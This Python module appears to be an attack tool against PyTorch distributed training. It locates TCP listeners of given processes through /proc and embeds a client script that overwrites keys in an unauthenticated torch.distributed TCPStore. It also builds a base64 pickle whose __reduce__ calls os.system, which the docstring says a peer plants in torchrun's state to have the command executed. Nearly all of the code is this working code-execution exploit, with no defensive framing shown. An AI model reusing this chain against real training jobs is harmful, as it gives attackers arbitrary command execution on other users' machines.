"""The TCP sockets that processes listen on, and a foreign client of a store on one of them."""

import base64
import ipaddress
import os
import pickle
import struct
from collections.abc import Iterable
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path

_LISTEN = "0A"  # in /proc/net/tcp

# argv: a text, patterns with their replacements in JSON, ports. Writes the text under the replaced name of each key
# with the pattern, and prints these names; one pattern after the other
FOREIGN_CLIENT = """
import json, re, sys
from datetime import timedelta
import torch.distributed as dist
text, changes, *ports = sys.argv[1:]
for port in ports:
    try:
        store = dist.TCPStore("127.0.0.1", int(port), is_master=False, timeout=timedelta(seconds=5))
        store.list_keys()
    except dist.DistError as error:
        continue
    for pattern, replacement in json.loads(changes):
        for key in store.list_keys():
            if re.search(pattern, key):
                store.set(re.sub(pattern, replacement, key), text)
                print(re.sub(pattern, replacement, key))
"""


@dataclass(frozen=True)
class Listener:
    pid: int
    address: str
    port: int

    @property
    def is_loopback(self) -> bool:
        return ipaddress.ip_address(self.address).is_loopback


def listeners(pids: Iterable[int]) -> list[Listener]:
    """The TCP sockets that these processes listen on, each in the network namespace of its process."""
    found = []
    for pid in pids:
        with suppress(OSError):  # it has ended meanwhile
            mine = _inodes(pid)
            for name in ("tcp", "tcp6"):
                for line in Path(f"/proc/{pid}/net/{name}").read_text().splitlines()[1:]:
                    fields = line.split()
                    if fields[3] == _LISTEN and fields[9] in mine:
                        found.append(Listener(pid, *_place(fields[1])))
    return found


def _inodes(pid: int) -> set[str]:
    """The numbers of the sockets that a process has open."""
    inodes = set()
    for link in Path(f"/proc/{pid}/fd").iterdir():
        with suppress(OSError):
            target = os.readlink(link)
            if target.startswith("socket:["):
                inodes.add(target[8:-1])
    return inodes


def _place(field: str) -> tuple[str, int]:
    """(address, port) of `0100007F:1F90`: words of four bytes, each in this machine's order."""
    address, _, port = field.partition(":")
    words = [int(address[i : i + 8], 16) for i in range(0, len(address), 8)]
    packed = struct.pack(f"={len(words)}I", *words)
    where = ipaddress.ip_address(packed)
    mapped = where.ipv4_mapped if where.version == 6 else None
    return str(mapped or where), int(port, 16)


class Runs:
    """Unpickling it runs a shell command."""

    def __init__(self, shell: str):
        self.shell = shell

    def __reduce__(self):
        return os.system, (self.shell,)


def pickled_command(shell: str) -> str:
    """What a peer writes where torchrun keeps its state, to have the command executed."""
    return base64.b64encode(pickle.dumps(Runs(shell))).decode()
